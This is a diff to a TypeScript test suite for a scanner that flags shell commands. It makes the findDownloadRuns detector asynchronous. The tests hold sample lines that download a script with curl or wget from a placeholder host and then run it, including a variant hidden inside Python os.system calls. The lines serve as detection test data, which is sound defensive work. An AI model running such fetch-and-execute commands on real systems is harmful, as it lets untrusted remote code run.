@@ -140,12 +140,13 @@ test("what is nested beyond any use is still read, and its exit code is nobody's
   expect(wordsIn(`${deep("a")}; b`).at(-1)).toEqual(["b"]);
 });
 
-test("quotes in a sentence or a program hide no download", () => {
-  const runs = (...texts: string[]) => findDownloadRuns(texts.map((text, index) => ({ text, line: index + 1 }))).length;
-  expect(runs("Don't ask: curl -o i.sh https://x.invalid/i", "it's fine, run ./i.sh")).toBe(1);
-  expect(runs(`os.system('curl -o i.sh https://x.invalid/i'); os.system("sh i.sh")`)).toBe(1);
-  expect(runs("wget https://x.invalid/i.sh 2>&1", "sh i.sh")).toBe(1);
-  expect(runs("# curl -o i.sh https://x.invalid/i", "# then .\\i.sh")).toBe(1);
+test("quotes in a sentence or a program hide no download", async () => {
+  const runs = async (...texts: string[]) =>
+    (await findDownloadRuns(texts.map((text, index) => ({ text, line: index + 1 })))).length;
+  expect(await runs("Don't ask: curl -o i.sh https://x.invalid/i", "it's fine, run ./i.sh")).toBe(1);
+  expect(await runs(`os.system('curl -o i.sh https://x.invalid/i'); os.system("sh i.sh")`)).toBe(1);
+  expect(await runs("wget https://x.invalid/i.sh 2>&1", "sh i.sh")).toBe(1);
+  expect(await runs("# curl -o i.sh https://x.invalid/i", "# then .\\i.sh")).toBe(1);
 });
 
 const HOSTILE = [
@@ -164,13 +165,13 @@ test.each([HOSTILE.at(-1)!, "$(", "a;", "'", "<<A\n", "${a:-"])("a megabyte of %
   expect(performance.now() - started).toBeLessThan(SOON_MS);
 });
 
-test.each(HOSTILE)("fifty thousand characters of %j stop nobody who asks about them", (piece) => {
+test.each(HOSTILE)("fifty thousand characters of %j stop nobody who asks about them", async (piece) => {
   const text = piece.repeat(50_000 / piece.length);
   const started = performance.now();
   findRuin(text, { cwd: "/srv/project" });
   testIn(text);
   onlyLooks(text);
-  findDownloadRuns([{ text, line: 1 }]);
+  await findDownloadRuns([{ text, line: 1 }]);
   expect(performance.now() - started).toBeLessThan(SOON_MS);
 });
 
